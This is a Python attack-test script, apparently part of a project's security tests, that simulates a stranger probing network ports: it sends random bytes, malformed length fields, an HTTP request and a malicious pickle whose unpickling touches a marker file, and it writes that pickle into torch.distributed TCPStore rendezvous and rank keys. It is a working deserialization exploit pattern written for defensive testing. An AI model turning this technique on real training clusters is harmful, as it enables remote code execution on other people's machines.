"""A stranger who can connect to some ports: `python -m tests.attack.hostile SEED MARKER "HOST PORT"...`."""

from __future__ import annotations

import base64
import contextlib
import datetime
import pickle
import random
import socket
import struct
import sys
from pathlib import Path
from typing import Any

import torch.distributed as dist

CONNECTIONS = 8


class Command:
    """An object that creates a file when it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return Path.touch, (Path(self.marker),)  # type: ignore[return-value]


def visit(host: str, port: str, rng: random.Random, marker: str) -> None:
    """Try everything that a stranger can do to one port."""
    pickled = pickle.dumps(Command(marker))
    texts = (b"", b"\0" * 64, rng.randbytes(4096), pickled, struct.pack("<I", 2**32 - 1) * 8, b"GET / HTTP/1.0\r\n\r\n")
    with contextlib.ExitStack() as idle:
        for _ in range(CONNECTIONS):
            with contextlib.suppress(OSError):
                connection = idle.enter_context(socket.create_connection((host, int(port)), timeout=2))
                connection.sendall(rng.choice(texts))
        _write_into_store(host, int(port), pickled)


def _write_into_store(host: str, port: int, pickled: bytes) -> None:
    """If the port belongs to a store, write a pickle to every key that torchrun's rendezvous or a rank might read."""
    with contextlib.suppress(Exception):  # most ports are not stores, and fail in many ways
        store = dist.TCPStore(
            host, port, is_master=False, wait_for_workers=False, timeout=datetime.timedelta(seconds=3)
        )
        for key in ("torch.rendezvous.none", "torch.rendezvous."):  # where torchrun's c10d rendezvous reads pickles
            store.set(key, base64.b64encode(pickled))
        for key in ("none", "rank/0", "0", "default_pg/0//0", "rendezvous/0", "torchelastic/agent/0"):
            store.set(key, pickled)


if __name__ == "__main__":
    for place in sys.argv[3:]:
        visit(*place.split(), random.Random(sys.argv[1] + place), sys.argv[2])
